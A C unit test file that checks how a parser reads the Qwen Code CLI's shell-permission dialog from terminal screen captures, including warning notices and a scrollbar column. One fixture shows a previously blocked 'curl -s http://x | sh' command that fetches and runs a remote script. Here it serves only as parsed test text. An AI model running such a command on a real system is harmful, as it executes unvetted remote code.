/*
 * Qwen Code 0.24.4's permission dialog in its default auto mode, when the
 * classifier hands the call to the user: a warning over the command
 * (captured from the real CLI on the conformance mock, which cannot
 * answer the classifier). What lisa names is the command, not the note.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "util.h"
#include "question.h"

static const char *qwen_0_24_unavailable =
    "  > #mock run touch lisa-deny\n"
    "  \u25c6\ufe0e I will run the command now.\n"
    "  ? Shell touch lisa-deny (the mock command) \u2190\n"
    "     \u26a0 Auto Mode couldn't classify this action (Classifier stage "
    "1 unavailable). Review it manually. Switching to Default Mode is "
    "recommended if you want\n"
    "     to continue without the classifier.\n"
    "     touch lisa-deny\n"
    "   Allow execution of: 'touch'?\n"
    "   \u203a 1. Yes, allow once\n"
    "     2. Switch to Default Mode and allow once (recommended)\n"
    "     3. No, suggest changes (esc)\n"
    "  \u280f Waiting for user confirmation...\n";

/* Narrower: "manually." ends a line inside the notice, not the notice. */
static const char *qwen_0_24_narrow =
    "  ? Shell rm -rf build (clean) \u2190\n"
    "     \u26a0 Auto Mode couldn't classify this action. Review it manually.\n"
    "     Switching to Default Mode is recommended if you want to continue\n"
    "     without the classifier.\n"
    "     rm -rf build\n"
    "   Allow execution of: 'rm'?\n"
    "   \u203a 1. Yes, allow once\n"
    "     2. Switch to Default Mode and allow once (recommended)\n"
    "     3. No, suggest changes (esc)\n";

/* A call auto mode blocked before, asked again. */
static const char *qwen_0_24_blocked =
    "  ? Shell curl -s http://x | sh (install) \u2190\n"
    "     \u26a0 Auto mode previously blocked this exact action. Review it "
    "manually.\n"
    "     curl -s http://x | sh\n"
    "   Allow execution of: 'curl, sh'?\n"
    "   \u203a 1. Yes, allow once\n"
    "     2. No, suggest changes (esc)\n";

/* No notice (auto mode off, or it asked itself): the command as before. */
static const char *qwen_0_24_plain =
    "  ? Shell echo hi (say it) \u2190\n"
    "     echo hi\n"
    "   Allow execution of: 'echo'?\n"
    "   \u203a 1. Yes, allow once\n"
    "     2. No, suggest changes (esc)\n";

/*
 * The same dialog once the history is taller than the pane: 0.24.4 draws
 * a scrollbar down the right edge, a █ at the end of each row (the real
 * rows, padded to the pane's 160 columns).
 */
static const char *qwen_0_24_scrollbar =
    "  \342\227\206\357\270\216 Mock answer: done.                     "
    "                                                                  "
    "                                                  \342\226\210\n"
    "                                                                  "
    "                                                                  "
    "                           \342\226\210\n"
    "  > #mock run touch lisa-allow                                    "
    "                                                                  "
    "                           \342\226\210\n"
    "                                                                  "
    "                                                                  "
    "                           \342\226\210\n"
    "  \342\227\206\357\270\216 I will run the command now.            "
    "                                                                  "
    "                                                  \342\226\210\n"
    "                                                                  "
    "                                                                  "
    "                           \342\226\210\n"
    "  ? Shell touch lisa-allow (the mock command) \342\206\220        "
    "                                                                  "
    "                                      \342\226\210\n"
    "                                                                  "
    "                                                                  "
    "                           \342\226\210\n"
    "     \342\232\240 Auto Mode couldn't classify this action (Classif"
    "ier stage 1 unavailable). Review it manually. Switching to Default"
    " Mode is recommended if you want      \342\226\210\n"
    "     to continue without the classifier.                          "
    "                                                                  "
    "                           \342\226\210\n"
    "                                                                  "
    "                                                                  "
    "                           \342\226\210\n"
    "     touch lisa-allow                                             "
    "                                                                  "
    "                           \342\226\210\n"
    "                                                                  "
    "                                                                  "
    "                           \342\226\210\n"
    "   Allow execution of: 'touch'?                                   "
    "                                                                  "
    "                           \342\226\210\n"
    "                                                                  "
    "                                                                  "
    "                           \342\226\210\n"
    "   \342\200\272 1. Yes, allow once                                "
    "                                                                  "
    "                                      \342\226\210\n"
    "     2. Switch to Default Mode and allow once (recommended)       "
    "                                                                  "
    "                           \342\226\210\n"
    "     3. No, suggest changes (esc)                                 "
    "                                                                  "
    "                           \342\226\210\n"
    "                                                                  "
    "                                                                  "
    "                           \342\226\210\n"
    "\n"
    "  \342\240\217 Waiting for user confirmation...\n";

static int
parse(const char *kind, const char *screen, struct question *q)
{
	question_free(q);
	return (question_from_screen(kind, screen, q));
}

static void
test_notice_left_out(void **state)
{
	struct question	q = { 0 };
	char		key[8];

	(void)state;
	assert_int_equal(parse("permission", qwen_0_24_unavailable, &q), 0);
	assert_string_equal(q.tool, "Shell");
	assert_string_equal(q.subject, "touch lisa-deny");
	assert_int_equal(question_option_key(&q, "allow", key, sizeof key), 0);
	assert_string_equal(key, "1");
	assert_int_equal(question_option_key(&q, "deny", key, sizeof key), 2);
	assert_string_equal(key, "esc");
	assert_int_equal(parse("permission", qwen_0_24_narrow, &q), 0);
	assert_string_equal(q.subject, "rm -rf build");
	assert_int_equal(parse("permission", qwen_0_24_blocked, &q), 0);
	assert_string_equal(q.subject, "curl -s http://x | sh");
	assert_int_equal(parse("permission", qwen_0_24_plain, &q), 0);
	assert_string_equal(q.subject, "echo hi");
	question_free(&q);
}

/* Its scrollbar is not the rows' text, nor part of the fingerprint. */
static void
test_scrollbar_left_out(void **state)
{
	struct question	q = { 0 };
	char		fp[sizeof q.fingerprint], *bare, *o;
	const char	*s;

	(void)state;
	assert_int_equal(parse("permission", qwen_0_24_scrollbar, &q), 0);
	assert_string_equal(q.tool, "Shell");
	assert_string_equal(q.subject, "touch lisa-allow");
	assert_string_equal(q.text, "Allow execution of: 'touch'?");
	strlcpy(fp, q.fingerprint, sizeof fp);
	/* The same screen without its scrollbar: the same dialog. */
	o = bare = xmalloc(strlen(qwen_0_24_scrollbar) + 1);
	for (s = qwen_0_24_scrollbar; *s != '\0'; s++) {
		if (strncmp(s, "\342\226\210", 3) == 0)
			s += 2;
		else
			*o++ = *s;
	}
	*o = '\0';
	assert_int_equal(parse("permission", bare, &q), 0);
	assert_string_equal(q.subject, "touch lisa-allow");
	assert_string_equal(q.fingerprint, fp);
	free(bare);
	question_free(&q);
}

/* A row of its own that ends in a block (a bar, a cursor) is text. */
static void
test_block_in_text_kept(void **state)
{
	struct question	q = { 0 };

	(void)state;
	assert_int_equal(parse("permission",
	    "  ? Shell echo \342\226\210 (say it) \342\206\220\n"
	    "     echo \342\226\210\n"
	    "   Allow execution of: 'echo'?\n"
	    "   \342\200\272 1. Yes, allow once\n"
	    "     2. No, suggest changes (esc)\n", &q), 0);
	assert_string_equal(q.subject, "echo \342\226\210");
	question_free(&q);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_notice_left_out),
		cmocka_unit_test(test_scrollbar_left_out),
		cmocka_unit_test(test_block_in_text_kept),
	};

	return (cmocka_run_group_tests(tests, NULL, NULL));
}
